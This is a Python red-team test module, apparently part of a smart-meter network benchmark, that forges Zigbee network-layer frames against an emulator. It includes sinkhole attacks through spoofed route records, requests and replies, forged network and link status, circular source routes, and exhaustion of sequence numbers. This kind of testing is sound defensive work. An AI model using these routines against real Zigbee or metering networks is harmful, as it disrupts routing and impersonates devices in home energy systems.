"""Attacks with the network key on routes, neighbours, and what routers remember of broadcasts."""

from __future__ import annotations

from hanbench.emulator.zigbee.aps import frames as aps
from hanbench.emulator.zigbee.nwk import commands, frames
from tests.redteam.attacker import BROADCAST, OWN_IEEE, OWN_SHORT, Attacker, Place
from tests.redteam.attacks import attack
from tests.redteam.with_the_network_key import BASIC, again, at_wakes, nwk_command

OWN = Place(OWN_SHORT, OWN_IEEE)
EVERY_STATUS = range(0x14)
"""Codes of Network Status (R22, table 3-42), and one more."""
NUMBERS = 256
"""Of broadcasts, and of Route Requests of one device."""
MOST_RELAYS = 12
"""nwkMaxSourceRoute (R22, 3.5.2)."""
NOTHING = b"\x18\x01\x0b\x00\x00"


def record(a: Attacker, relays: tuple[int, ...], *, about: Place, over: int) -> bytes:
    """A Route Record to the hub about the way of a device; `over`: the neighbour that sends it on."""
    npdu = a.npdu(commands.RouteRecord(relays).encode(), src=about.short, kind=frames.COMMAND, ieee=about.ieee)
    return a.data(npdu, src=over)


@attack
async def sinkhole_by_route_record(a: Attacker) -> None:
    """The attacker is the relay of all devices, acknowledges, and sends nothing on (Karlof and Wagner 2003)."""
    a.be(OWN_SHORT)
    places = (a.gsme, a.esme, a.parent)
    await again(a, lambda: [record(a, (OWN_SHORT,), about=each, over=OWN_SHORT) for each in places if each.short], 15)


@attack
async def sinkhole_by_route_request(a: Attacker) -> None:
    """Cost 0, many-to-one in the hub's name, and in the meter's and its parent's: the way leads over the attacker."""
    a.be(OWN_SHORT)

    def lies() -> list[bytes]:
        found = []
        for place, to, kind in ((a.hub, 0xFFFC, 1), (a.gsme, 0x0000, 0), (a.parent, a.esme.short, 0)):
            ask = commands.RouteRequest(a.next(), to, 0, kind)
            npdu = a.npdu(ask.encode(), src=place.short, dst=0xFFFC, kind=frames.COMMAND, ieee=place.ieee)
            found.append(a.data(npdu, dst=BROADCAST, src=OWN_SHORT))
        return found

    await again(a, lies, 15)


@attack
async def routes_over_the_wrong_router(a: Attacker) -> None:
    """Records and requests of the gas meter over the electricity meter, a router that does not hear it."""

    def lies() -> list[bytes]:
        ask = commands.RouteRequest(a.next(), 0)
        npdu = a.npdu(ask.encode(), src=a.gsme.short, dst=0xFFFC, kind=frames.COMMAND, ieee=a.gsme.ieee)
        asked = a.data(npdu, dst=BROADCAST, src=a.esme.short)
        return [asked, record(a, (a.esme.short,), about=a.gsme, over=a.esme.short)]

    await again(a, lies, 10)


@attack
async def sinkhole_by_route_reply(a: Attacker) -> None:
    """Each Route Request gets an answer at once: the way leads over the attacker, at cost 0 (R22, 3.6.3.5.3)."""
    a.be(OWN_SHORT)

    def answer(psdu: bytes) -> None:
        frame = a.opened(psdu)
        if frame is None or frame.type != frames.COMMAND or frame.payload[:1] != b"\x01":
            return
        request_id, destination = frame.payload[2], int.from_bytes(frame.payload[3:5], "little")
        reply = commands.RouteReply(request_id, frame.src, destination)
        a.later(a.flood([nwk_command(a, reply, src=OWN, dst=frame.src)]))

    a.ears.append(answer)
    await again(a, lambda: [nwk_command(a, commands.NetworkStatus(0, a.gsme.short), src=OWN, dst=0)], 5)


@attack
async def network_status_of_every_code(a: Attacker) -> None:
    """In the parent's name to the hub, and in the hub's name to the parent (R22, 3.4.3.3)."""
    about = (a.gsme.short, a.esme.short, a.parent.short, 0x0000)

    def lies() -> list[bytes]:
        found = [commands.NetworkStatus(code, each) for code in EVERY_STATUS for each in about]
        to_hub = [nwk_command(a, each, src=OWN if a.parent == a.hub else a.parent, dst=0) for each in found]
        return to_hub + [nwk_command(a, each, src=a.hub, dst=a.parent.short) for each in found if a.parent.short]

    await at_wakes(a, lies)


@attack
async def link_status_in_the_routers_names(a: Attacker) -> None:
    """Worst costs, best costs of devices far off, and lists without the receiver (R22, 3.4.8 and 3.6.3.4)."""
    everybody = (a.hub, a.esme, a.parent)
    entries = sorted({each.short for each in (*everybody, a.gsme)})

    def lies() -> list[bytes]:
        found = []
        for cost in (1, 7, 0):
            status = commands.LinkStatus(entries=tuple(commands.LinkStatusEntry(each, cost, cost) for each in entries))
            found += [
                nwk_command(a, status, src=src, dst=0xFFFC, over=BROADCAST, sender=OWN_IEEE)
                for src in (*everybody, a.gsme)
            ]
        return found

    await again(a, lies, 60)


@attack
async def broken_route_records(a: Attacker) -> None:
    """Ways that lead in a circle, over the hub, over broadcasts, or are too long (R22, 3.4.5 and 3.6.3.5.5)."""
    ways: tuple[tuple[int, ...], ...] = (
        (a.gsme.short,),
        (0,),
        (OWN_SHORT, a.parent.short, OWN_SHORT),
        (0xFFFC, OWN_SHORT),
        (0xFFFF,),
        tuple(range(1, MOST_RELAYS + 2)),
        tuple(range(0x100, 0x100 + 24)),
    )
    await again(
        a,
        lambda: [
            record(a, way, about=each, over=way[-1]) for way in ways for each in (a.gsme, a.esme, a.hub, a.parent)
        ],
        60,
    )


@attack
async def source_routes_in_circles(a: Attacker) -> None:
    """One frame that hub and routers hand to each other (the carousel of Vasserman and Hopper 2013)."""
    one, other = a.parent.short or a.esme.short, a.hub.short

    def lies() -> list[bytes]:
        circle = (one, other) * (MOST_RELAYS // 2)
        far = (one, other) * 14
        found = []
        for relays in (circle, circle[::-1], far):
            for dst in (a.gsme.short, 0x4242):
                npdu = a.npdu(a.apdu(NOTHING, BASIC), src=OWN_SHORT, dst=dst, relays=relays)
                found.append(a.data(npdu, dst=relays[-1]))
        return found

    await again(a, lies, 60)


@attack
async def broadcast_numbers_used_up(a: Attacker) -> None:
    """Broadcasts with each sequence number in the hub's and the parent's name: theirs look repeated (R22, 3.6.5)."""

    def lies() -> list[bytes]:
        found = []
        for number in range(NUMBERS):
            apdu = a.apdu(NOTHING, BASIC, delivery=aps.BROADCAST)
            for each in dict.fromkeys((a.hub, a.parent)):
                npdu = a.npdu(apdu, src=each.short, dst=BROADCAST, sequence=number)
                found.append(a.data(npdu, dst=BROADCAST, src=OWN_SHORT))
        return found

    await at_wakes(a, lies)


@attack
async def route_request_numbers_used_up(a: Attacker) -> None:
    """Requests with each number in the names of hub and parent, at cost 0: theirs look repeated (R22, 3.6.3.5.2)."""

    def lies() -> list[bytes]:
        found = []
        for number in range(NUMBERS):
            for each in dict.fromkeys((a.hub, a.parent)):
                ask = commands.RouteRequest(number, 0x4242)
                npdu = a.npdu(ask.encode(), src=each.short, dst=0xFFFC, kind=frames.COMMAND, ieee=each.ieee)
                found.append(a.data(npdu, dst=BROADCAST, src=OWN_SHORT))
        return found

    await at_wakes(a, lies)


@attack
async def signs_of_life_in_the_meters_name(a: Attacker) -> None:
    """Frames of the meter's over a relay, from a sleeping meter: the hub asks when nobody listens."""

    def lies() -> list[bytes]:
        npdu = a.npdu(a.apdu(NOTHING, BASIC), src=a.gsme.short)
        return [a.data(npdu, src=a.parent.short or OWN_SHORT)]

    await again(a, lies, 5)
